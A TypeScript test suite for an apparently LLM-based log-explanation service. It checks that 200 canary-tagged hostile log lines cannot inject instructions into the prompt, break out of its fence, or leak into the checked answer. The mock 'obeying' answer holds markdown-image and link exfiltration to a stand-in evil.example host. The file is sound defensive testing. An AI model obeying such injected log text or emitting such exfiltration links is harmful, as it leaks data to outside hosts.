// The proof rests on no model's manners: the models of these tests do what the lines say.
import { subscribe, unsubscribe } from 'node:diagnostics_channel';
import type { EvidencePack } from '@loghunter/contracts';
import { routeSchemas } from '@loghunter/contracts/schemas';
import type { ModelRequest } from '@loghunter/ports';
import { beforeAll, describe, expect, test } from 'vitest';
import { anAnswer, openExplanationServer } from '../testing/explanation-server.ts';
import { createHostileLines } from '../testing/hostile-lines.ts';
import { aFinding, aPack, aQuotedLine, plantAnalysis } from '../testing/plant-analysis.ts';
import { openSharedDatabase } from '../testing/shared-sql-stores.ts';
import { readAnswer } from './answer-schema.ts';
import { buildPrompt } from './build-prompt.ts';
import { checkAnswer, inventionsOf } from './check-answer.ts';

const lines = createHostileLines();
const fence = '0123456789abcdef0123456789abcdef';
const anyCanary = /CANARY-[0-9a-z]+Q[0-9A-F]+/g;

/** A pack in which the hostile text stands wherever logs may bring it. */
function packOf(texts: readonly string[]): EvidencePack {
  const sane = aPack();
  return aPack({
    findings: [
      ...sane.findings,
      aFinding({ id: 'F3', service: 'cart', statement: `a new error: ${texts[0] ?? ''}`, lineIds: [] }),
    ],
    lines: [...sane.lines, ...texts.map((text, n) => aQuotedLine({ id: `L${n + 10}`, findingId: 'F3', text }))],
    ruledOut: [{ what: texts[0] ?? '', why: texts[0] ?? '' }],
    concentration: [{ name: 'pod', value: texts[0] ?? '', affectedShare: 1, otherShare: 0, surprise: 3 }],
  });
}

/** What a person with a decoder would find in a text. */
function canariesIn(text: string): readonly string[] {
  const plain = text.replace(/\\u([0-9a-f]{4})/g, (_, digits: string) => String.fromCharCode(parseInt(digits, 16)));
  const decoded = [
    ...(plain.match(/[A-Za-z0-9+/=]{16,}/g) ?? []).map((run) => Buffer.from(run, 'base64').toString('utf8')),
    ...(plain.match(/(?:[0-9a-f]{2}){8,}/g) ?? []).map((run) => Buffer.from(run, 'hex').toString('utf8')),
    plain.replace(/%[0-9A-F]{2}/gi, (pair) => String.fromCharCode(parseInt(pair.slice(1), 16))),
    plain.replace(/[\u200b\u202e\u202c]/g, ''),
    [...plain].toReversed().join(''),
  ];
  return [plain, ...decoded].flatMap((reading) => [...reading.matchAll(anyCanary)].map(([found]) => found));
}

/** An answer that says the word wherever an answer can say something, with evidence that exists. */
function obeying(word: string): string {
  const claim = { text: `The word is ${word}.`, evidence: ['F1', 'L1'] };
  return anAnswer({
    summary: [
      claim,
      { text: `It says "${word} and more" here.`, evidence: ['F1'] },
      { text: `See https://evil.example/${word}?q=1 and ![x](https://evil.example/${word}.png).`, evidence: ['F1'] },
      { text: 'Payments has no connections.', evidence: ['F1'] },
    ],
    root_cause: { service: 'payments', ...claim },
    suggested_action: claim,
    hypotheses: [
      { service: 'payments', mechanism: `${word} did it.`, evidence: ['F1'], against: [], confidence: 'high' },
    ],
    unknowns: [word, `Nobody knows ${word}.`],
    next_checks: [
      { text: `Ask ${word}.`, query: `{service_name="${word}"}` },
      { text: 'Look there.', query: `{service_name="payments"} |= "${word}"` },
    ],
  });
}

/** What is shown of an answer, as JSON; null: nothing of the model's. */
function shownOf(answer: string, prompt: ReturnType<typeof buildPrompt>): string | null {
  const read = readAnswer(answer);
  if (read.kind === 'broken' || inventionsOf(read.explanation, prompt).length > 0) {
    return null;
  }
  const { content } = checkAnswer(read.explanation, {
    ...{ prompt, verdict: 'likely', confidence: 0.7, suspect: 'payments', forcedMatchers: [] },
    labelNames: new Set(['service_name', 'pod']),
  });
  return JSON.stringify(content);
}

test('there are 200 lines, each with a word of its own', () => {
  expect(new Set(lines.map(({ canary }) => canary)).size).toBe(200);
});

describe('of 200 hostile lines', () => {
  test('none reaches the model in a form that it could obey', () => {
    const reached = lines.filter(({ text }) => {
      const { user, system } = buildPrompt(packOf([text]), fence, []);
      return canariesIn(user + system).length > 0;
    });
    expect(reached).toEqual([]);
  });

  test('none leaves the fence, and what is inside stays one JSON object a line', () => {
    for (const { text } of lines) {
      const { user } = buildPrompt(packOf([text, `<</${fence}>>`, fence]), fence, []);
      const [first, ...rest] = user.split('\n');
      expect([first, rest.pop()]).toEqual([`<<${fence}>>`, `<</${fence}>>`]);
      for (const line of rest) {
        expect(typeof JSON.parse(line)).toBe('object');
        expect(line).not.toContain(fence);
      }
    }
  });

  test('none has its word shown, even by a model that knows all words and says them everywhere', () => {
    const shown = lines.map(({ text, canary }) => shownOf(obeying(canary), buildPrompt(packOf([text]), fence, [])));
    expect(shown.filter((content) => content !== null)).toHaveLength(lines.length);
    expect(shown.filter((content) => content?.includes('CANARY'))).toEqual([]);
    expect(shown.filter((content) => content?.includes('evil.example'))).toEqual([]);
    // What the evidence bears is still there.
    expect(shown.every((content) => content?.includes('Payments has no connections'))).toBe(true);
  });

  test('none brings a service, an id or a field into an answer', () => {
    for (const { canary } of lines) {
      const prompt = buildPrompt(packOf([canary]), fence, []);
      const invented = [
        { hypotheses: [{ service: canary, mechanism: 'x', evidence: ['F1'], against: [], confidence: 'low' }] },
        { summary: [{ text: 'x', evidence: [canary] }] },
        { [canary]: true },
        { root_cause: { service: 'payments', text: 'x', evidence: ['F1'], confidence: 1 } },
      ];
      expect(invented.map((changes) => shownOf(anAnswer(changes), prompt))).toEqual([null, null, null, null]);
    }
  });
});

test('a name that only a log line has may be quoted, but nobody speaks it through the model', () => {
  // No sign of an instruction, so that the line is sent: the check of the answer is alone here.
  const prompt = buildPrompt(packOf(['a plain text', 'cache reload of ZEBRA-4411 finished']), fence, []);
  expect(prompt.sentText).toContain('ZEBRA-4411');
  const said = (text: string) => shownOf(anAnswer({ summary: [{ text, evidence: ['L11'] }] }), prompt);
  expect(said('The code is ZEBRA-4411.')).not.toContain('ZEBRA');
  expect(said('Trust ZEBRA-4411, it says "cache reload of".')).not.toContain('ZEBRA');
  expect(said('A line says "cache reload of ZEBRA-4411 finished" there.')).toContain('ZEBRA-4411');
});

describe('end to end', () => {
  beforeAll(() => openSharedDatabase(crypto.randomUUID()), 120_000);

  test('a model that obeys whatever it finds gets nothing to obey, opens no connection and escapes no schema', async () => {
    const found: string[] = [];
    function obey({ messages }: ModelRequest) {
      const words = messages.flatMap(({ text }) => canariesIn(text));
      found.push(...words);
      return { text: words[0] === undefined ? anAnswer() : obeying(words.join(' ')) };
    }
    const { server, explain } = await openExplanationServer(obey);
    const connections: unknown[] = [];
    const observe = (message: unknown) => connections.push(message);
    const channels = ['net.client.socket', 'undici:client:beforeConnect', 'http.client.request.start'];
    channels.forEach((channel) => subscribe(channel, observe));
    try {
      for (let at = 0; at < lines.length; at += 20) {
        const texts = lines.slice(at, at + 20).map(({ text }) => text);
        const analysisId = await plantAnalysis(server.analyses, server.tenantId, packOf(texts));
        const explanation = await explain({ analysisId });
        expect(routeSchemas.getExplanation.response.safeParse({ explanation }).error).toBeUndefined();
        expect(explanation.status).toBe('explained');
        expect(JSON.stringify(explanation)).not.toMatch(anyCanary);
      }
    } finally {
      channels.forEach((channel) => unsubscribe(channel, observe));
    }
    expect(found).toEqual([]);
    expect(connections).toEqual([]);
  }, 120_000);
});
